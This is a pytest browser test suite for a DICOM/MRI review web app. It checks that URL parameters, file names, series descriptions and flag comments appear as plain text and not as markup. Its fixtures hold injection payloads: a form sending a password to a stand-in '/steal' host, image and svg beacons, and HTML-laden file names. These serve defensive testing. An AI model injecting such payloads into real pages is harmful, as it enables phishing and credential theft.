"""Visitor-controlled text never becomes markup on the app's page (issue 24): a link's `case` and `dataset`,
file names, DICOM series descriptions, and flag comments are shown as the text they are, in the real app and
Debian chromium. Each hostile text carries a form with a password input, an image and an svg pointing outside,
a Markdown image and link, and a bare URL; none of them may become an element, and the browser may ask no
address but the app's own."""
import urllib.parse

import pytest

from dicom_factory import series
from server import running_app

pytestmark = pytest.mark.browser

OUTSIDE = "http://127.0.0.9:9"  # nothing listens there; a request to it is the beacon firing
HOSTILE = (f'<form action="{OUTSIDE}/steal"><input name=pw type=password></form><img src="{OUTSIDE}/img.png">'
           f'<svg><image href="{OUTSIDE}/svg.png"/></svg> ![b]({OUTSIDE}/beacon.png) [click]({OUTSIDE}/x) '
           f"{OUTSIDE}/bare www.example.com")
MARKUP = "form, input[type=password], img, svg, a, iframe, object, embed"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    flags = tmp_path_factory.mktemp("flags") / "flags.sqlite"
    with running_app({"MRNET_FLAGS": str(flags)}) as (url, proc, log):
        yield url


def new_page(browser, url):
    page = browser.new_page(viewport={"width": 1400, "height": 1400})
    page.requests = []
    page.on("request", lambda r: page.requests.append(r.url))
    page.goto(url)
    return page


def assert_inert(page, selector, origin, shown=("<form", "password", "![b]")):
    """The element shows the hostile text as text; none of it became an element; nothing left the origin."""
    text = page.locator(selector).inner_text()
    assert all(part in text for part in shown), text
    assert page.locator(selector).locator(MARKUP).count() == 0, page.locator(selector).inner_html()
    page.wait_for_timeout(300)  # give a beacon the time to fire
    outside = [u for u in page.requests if not u.startswith((origin, "data:", "blob:"))]
    assert not outside, outside


@pytest.mark.parametrize("param", ["case", "dataset"])
def test_a_links_parameters_are_shown_as_text(app, browser, param):
    query = {"case": "0001", param: HOSTILE}
    page = new_page(browser, app + "?" + urllib.parse.urlencode(query))
    page.wait_for_function("() => document.querySelector('#link-note')?.innerText.includes('cannot be opened')",
                           timeout=60_000)
    assert_inert(page, "#link-note", app, shown=("<form action=",))  # the sentence quotes 40 characters of it
    page.close()


def test_dicom_series_description_and_file_names_are_shown_as_text(app, browser, tmp_path):
    paths = []
    for k, _, data in series(n=8, size=64, description=HOSTILE):
        path = tmp_path / f"<b>IM{k}<img src=x>.dcm"
        path.write_bytes(data)
        paths.append(str(path))
    page = new_page(browser, app)
    page.locator("#files input[type=file]").set_input_files(paths)
    page.locator("#analyze").click()
    page.wait_for_function("() => document.querySelector('#predictions')?.innerText.includes('Probability')",
                           timeout=90_000)
    assert_inert(page, "#predictions", app)
    page.close()


def test_an_error_that_quotes_a_file_name_is_shown_as_text(app, browser, tmp_path):
    """Gradio strips < and > from an upload's own name, but not from a zip member's: the refusal quotes it."""
    import zipfile
    bad = tmp_path / "exam.zip"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr('<form action=x><input name=pw type=password><img src="y">![b](z).dcm', b"not DICOM at all")
    page = new_page(browser, app)
    page.locator("#files input[type=file]").set_input_files(str(bad))
    page.locator("#analyze").click()
    toast = page.locator(".toast-body, [data-testid='toast-body']").first
    toast.wait_for(timeout=30_000)
    text = toast.locator("[data-testid=toast-text]")  # the toast's own header has svg icons
    assert "DICOM" in text.inner_text() and "<input name=pw type=password>" in text.inner_text()
    assert text.locator(MARKUP).count() == 0, text.inner_html()
    page.close()


def test_a_flag_comment_is_shown_as_text(app, browser):
    page = new_page(browser, app + "?case=0003")
    page.wait_for_selector("#viewer .mrv[data-ready='1']", timeout=90_000)
    page.locator("#flag-verdict label:has-text('CAM off the lesion')").click()
    page.locator("#flag-comment textarea").fill(HOSTILE)
    page.locator("#flag-save").click()
    page.wait_for_function("() => document.querySelector('#flags')?.innerText.includes('password')", timeout=30_000)
    cells = page.locator("#flags [role=gridcell]")  # the table's own toolbar has svg icons
    assert "<form" in cells.all_inner_texts()[7]
    assert cells.locator(MARKUP).count() == 0, page.locator("#flags").inner_html()
    page.wait_for_timeout(300)
    assert not [u for u in page.requests if not u.startswith((app, "data:", "blob:"))]
    page.close()


def test_a_link_whose_slice_does_not_parse_still_opens_its_case_with_a_note(app, browser):
    for bad in ("²", "9" * 5000):
        page = new_page(browser, app + "?" + urllib.parse.urlencode({"case": "0002", "plane": "sagittal", "slice": bad}))
        page.wait_for_selector("#viewer .mrv[data-ready='1']", timeout=90_000)
        page.wait_for_function("() => document.querySelector('#link-note')?.innerText.includes('not understood')",
                               timeout=30_000)
        assert "slice" in page.locator("#link-note").inner_text()
        page.wait_for_selector("#cases .mrc[data-ready='1']", timeout=60_000)  # the Cases table loaded too
        page.close()
